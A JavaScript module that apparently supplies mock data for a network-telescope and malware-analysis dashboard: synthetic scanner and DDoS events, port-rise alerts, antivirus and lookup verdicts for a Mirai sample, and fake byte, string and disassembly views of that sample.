      own: at === 3,
      first: nanos(first),
      last: nanos(first + between(60_000, HOUR_MS)),
      vectors: at % 3 === 0 ? ['tcp', 'dns'] : [pick(['tcp', 'udp', 'quic', 'icmp'])],
      ports: [pick(['80/tcp', '443/tcp', '53/udp', '25565/tcp'])],
      packets: between(60, 90_000),
      minute_peak: between(30, 9_000),
      addresses: between(20, 9_000),
      ...(bombed ? { victims: 97 } : {}),
      ...(random() < 0.8 ? { rate_estimated: between(1_000, 4_000_000) } : {}),
    };
  });
  const rises = [['8291/tcp', 480, [9, 14, 11, 8, 12, 10, 13, 12, 9, 15, 60, 210]], ['37215/tcp', 150, [40, 38, 44, 41, 39]]].map(([port, many, history]) => ({ ...event('telescope.rise', now - 2 * HOUR_MS), port, begins: times[times.length - 2], sources: many, packets: many * 3, history }));
  const blocks = Array.from({ length: 256 }, (_, at) => ({ block: `198.18.${at}.0/24`, packets: Math.round(20_000 * (0.8 + random() * 0.4) * (at === 77 ? 30 : at > 200 && at < 216 ? 3 : 1)) }));
  const ranked = (values) => values.map(([value, count]) => ({ value, count }));
  const origins = (values) => values.map(([value, many]) => ({ value, sources: many, packets: many * between(20, 400) }));
  return {
    range, intervals, ports, blocks, attacks,
    source_countries: origins([['CN', 4120], ['US', 3300], ['VN', 1203], ['BR', 880], ['JP', 401], ['?', 12]]),
    source_systems: origins([['AS64511 Example Telecom', 2210], ['AS64500 Example Hosting', 1900], ['AS64501 Example Networks of the Very Long Name, Incorporated in a Far Land', 702], ['?', 12]]),
    countries: ranked([['US', 11], ['CN', 6], ['JP', 4], ['DE', 3]]),
    systems: ranked([['AS64500 Example Hosting', 9], ['AS64501 Example Networks of the Very Long Name, Inc.', 7], ['?', 2]]),
    rises, scanners,
    suspects: [scannerEvent('203.0.113.77', true)],
    complete: true,
  };
}

/** What a source did. */
export function source(address) {
  const scans = scanners.filter((one) => one.source === address);
  const held = sessions.filter((one) => one.src_ip === address);
  return { address, scans: scans.length > 0 ? scans : [scannerEvent(address)], sessions: held.slice(0, 20), handshake: held.length > 0 };
}

/** What engines say of a sample. */
export const scanned = (sample) => sample.labels.length === 0 ? null : {
  agreement: { family: 'mirai', engines: 1, of: 1 },
  verdicts: [
    { sha256: sample.sha256, engine: 'clamav', product: 'ClamAV 1.4.3', signatures: '27500, Fri Nov 27 08:22:01 2026', time: sample.last_seen, duration_ms: 31, judgement: 'detected', names: ['Unix.Trojan.Mirai-7100807-0'] },
    { sha256: sample.sha256, engine: 'gateway', time: sample.last_seen, duration_ms: 30_000, judgement: 'not_scanned', reason: 'did not answer within 30 s', again: true },
  ],
};

/** What services say of a sample. */
export const lookedUp = (sample) => sample.labels.length === 0 ? null : {
  services: [
    { service: 'virustotal', time: sample.last_seen, answer: { standing: 'malicious', names: ['trojan.mirai/gafgyt'], detail: '45 of 70 engines', tags: ['elf', 'mips'] }, open: null },
    { service: 'hashlookup', time: sample.last_seen, answer: { standing: 'unknown' }, open: null },
    { service: 'malwarebazaar', time: sample.last_seen, answer: null, open: 'was asked 30 times this minute' },
  ],
};

/** A part of a sample. */
export const view = (what, offset, find) => {
  const size = 74_328;
  if (what === 'bytes') {
    const length = Math.max(0, Math.min(1024, size - offset));
    const hex = Array.from({ length }, (_, i) => ((offset + i) * 37 % 256).toString(16).padStart(2, '0')).join('');
    return { size, kind: 'bytes', offset, hex };
  }
  if (what === 'texts') {
    const texts = ['/bin/busybox', '/proc/net/tcp', 'GET / HTTP/1.1', 'cnc.example'].map((text, i) => ({ offset: 0x8000 + 64 * i, wide: i === 3, text }));
    return { size, kind: 'texts', texts: texts.filter((one) => one.text.toLowerCase().includes(find)), next: null };
  }
  const instructions = ['mov r11, #0', 'mov lr, #0', 'pop {r1}', 'mov r2, sp', 'push {r2}', 'bl #0x8194'].map((text, i) => ({ offset: 0xb4 + 4 * i, address: 0x80b4 + 4 * i, bytes: '00b0a0e3', text }));
  return { size, kind: 'code', architecture: 'arm', little_endian: true, instructions };
};
